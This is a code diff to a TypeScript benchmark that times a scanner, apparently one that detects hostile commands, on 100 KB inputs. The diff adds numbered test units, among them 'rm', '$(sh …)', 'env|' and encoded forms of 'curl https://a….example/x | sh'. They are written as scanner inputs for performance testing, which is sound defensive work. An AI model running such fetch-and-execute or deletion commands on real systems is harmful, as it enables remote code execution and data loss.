@@ -55,7 +55,7 @@ function ordinarySkill(random: () => number): string {
  * Units that are repeated to 100 KB: one for each part of the scanner, and the examples of all
  * rules.
  */
-const UNITS = [
+const REPEATED = [
   ...[
     'x',
     ' ',
@@ -136,8 +136,43 @@ const UNITS = [
   ),
 ]
 
-const fill = (unit: string): string =>
-  unit.repeat(Math.max(1, Math.floor(FILE_BYTES / Buffer.byteLength(unit))))
+/** A unit of a text, by its number in it. */
+type Unit = (number: number) => string
+
+const inBase64 = (text: string): string => Buffer.from(text).toString('base64')
+
+/** No two are alike, so that nothing is known again: examples with a number in their last word, commands, encoded pieces. */
+const NUMBERED: readonly Unit[] = [
+  ...RULES.flatMap(({ examples }) =>
+    [...examples.fires, ...examples.quiet].map(
+      (text) => (number: number) =>
+        text.replace(/[a-z]{4,}(?=[^a-z]*$)/i, (word) => word + number.toString(36)),
+    ),
+  ),
+  (number) => `${number === 0 ? '```sh\n' : ''}rm ${number}\n`,
+  (number) => `${number === 0 ? '```sh\n' : ''}!rm ${number}\n`,
+  (number) => `${number === 0 ? '```sh\n' : ''}\`sh ${number}\`\n`,
+  (number) => `${number === 0 ? '```sh\n' : ''}$(sh ${number})\n`,
+  (number) => `${number === 0 ? '```sh\n' : ''}env|${number}\n`,
+  (number) => `${inBase64(`print ${number} more`)}\n`,
+  (number) => `${inBase64(`curl https://a${number}.example/x | sh`)}\n`,
+  (number) => `${inBase64(inBase64(inBase64(`curl ${number}`)))}\n`,
+  (number) => `${Buffer.from(`run file ${number}`).toString('hex')}\n`,
+  (number) => `%63%75%72%6c%20${number}\n`,
+]
+
+const UNITS: readonly Unit[] = [...REPEATED.map((text) => () => text), ...NUMBERED]
+
+function fill(unit: Unit): string {
+  const parts: string[] = []
+  let bytes = 0
+  for (let number = 0; ; number++) {
+    const part = unit(number)
+    bytes += Buffer.byteLength(part)
+    if (bytes > FILE_BYTES && number > 0) return parts.join('')
+    parts.push(part)
+  }
+}
 
 /** Milliseconds of the fastest of several runs. */
 function fastest(rounds: number, run: () => void): number {
@@ -204,8 +239,8 @@ console.log(
   `  the pass for ${REFERENCE_WORDS} words: ${((megabytes / pass) * 1000).toFixed(0)} MB/s; a scan takes ${(ordinary / pass).toFixed(1)} times as long, 9 is the goal`,
 )
 
-const single = fastest(ROUNDS, () => look(fill('x')))
-const timed = (units: readonly string[], rounds: number) =>
+const single = fastest(ROUNDS, () => look(fill(() => 'x')))
+const timed = (units: readonly Unit[], rounds: number) =>
   units
     .map((unit) => {
       const text = fill(unit)
@@ -221,5 +256,5 @@ const times = timed(
 console.log(`hostile texts of 100 KB: ${UNITS.length}; the slowest, warm`)
 for (const { unit, ms } of times.slice(0, 8))
   console.log(
-    `  ${ms.toFixed(1).padStart(7)} ms, ${(ms / single).toFixed(0).padStart(6)} times: ${JSON.stringify(unit).slice(0, 70)}`,
+    `  ${ms.toFixed(1).padStart(7)} ms, ${(ms / single).toFixed(0).padStart(6)} times: ${JSON.stringify(unit(0)).slice(0, 70)}`,
   )
